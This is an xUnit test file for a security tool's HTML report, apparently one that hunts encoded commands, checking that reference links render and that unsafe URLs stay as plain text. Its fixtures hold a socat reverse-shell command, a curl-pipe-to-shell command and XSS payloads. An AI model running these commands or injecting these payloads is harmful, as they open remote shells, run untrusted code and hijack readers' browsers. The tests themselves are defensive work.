using System.Collections.Generic;
using System.Linq;
using System.Xml.Linq;
using B64Hunt.Model;
using B64Hunt.Reports;
using B64Hunt.Scoring;
using Xunit;
using static B64Hunt.Tests.Scoring.Fixture;

namespace B64Hunt.Tests.Reports
{
    /// <summary>The HTML report links each GTFOBins binary to its page, each TI verdict to its reference and each alert to its link; unsafe addresses stay text.</summary>
    public sealed class HtmlReportLinkTests
    {
        private static List<XElement> Links(string html) =>
            XDocument.Parse(html.Substring("<!DOCTYPE html>\n".Length)).Descendants().Where(e => e.Name.LocalName == "a" && e.Attribute("rel") != null).ToList();

        private static string Render(CommandEvent e, params RelatedAlert[] alerts)
        {
            var scores = CommandScorer.Score(new[] { e }, alerts).Scores;
            return HtmlReportRenderer.Render(TimelineLayout.Build(scores, alerts, 0));
        }

        [Fact]
        public void BinariesVerdictsAndAlertsAreLinked()
        {
            var otx = Ti("OTX", "45.9.148.35", TiSeverity.High);
            otx.Reference = "https://otx.alienvault.com/indicator/ip/45.9.148.35";
            var e = Event("socat tcp:45.9.148.35:4444 exec:sh", "web1", 5, otx);
            e.GtfoBins.Add(new GtfoBinsTag { Name = "socat", Url = "https://gtfobins.github.io/gtfobins/socat/" });
            var alert = Alert("web1", "Reverse shell", "High", 6);
            alert.AlertLink = "https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/2517";

            var links = Links(Render(e, alert)).ToDictionary(a => a.Value, a => (string)a.Attribute("href")!);

            Assert.Equal("https://gtfobins.github.io/gtfobins/socat/", links["socat"]);
            Assert.Equal(otx.Reference, links["TI OTX: 45.9.148.35 → High"]);
            Assert.Equal(alert.AlertLink, links["Reverse shell"]);
        }

        [Theory]
        [InlineData("javascript:alert(1)")]
        [InlineData("data:text/html,<script>alert(1)</script>")]
        [InlineData("/relative/page")]
        [InlineData("\" onmouseover=\"alert(1)")]
        public void AnAddressThatIsNotHttpStaysText(string reference)
        {
            // A local feed's Reference column or an alert's link is data an attacker may shape.
            var ti = Ti("LocalFeed", "45.9.148.35", TiSeverity.High);
            ti.Reference = reference;
            var alert = Alert("web1", "Crafted alert", "High", 6);
            alert.AlertLink = reference;
            var html = Render(Event("curl http://45.9.148.35/x | sh", "web1", 5, ti), alert);

            Assert.Empty(Links(html));
            Assert.Contains("TI LocalFeed: 45.9.148.35 → High", html);
            Assert.Contains("Crafted alert", html);
            Assert.DoesNotContain("href=\"javascript", html);
        }

        [Fact]
        public void WithoutAddressesNothingIsLinked()
        {
            var e = Event("socat tcp:1.2.3.4:1 exec:sh", "web1", 5, Ti("OTX", "1.2.3.4", TiSeverity.Low));
            e.GtfoBins.Add(new GtfoBinsTag { Name = "socat" });
            Assert.Empty(Links(Render(e, Alert("web1", "No link", "Low", 6))));
        }
    }
}
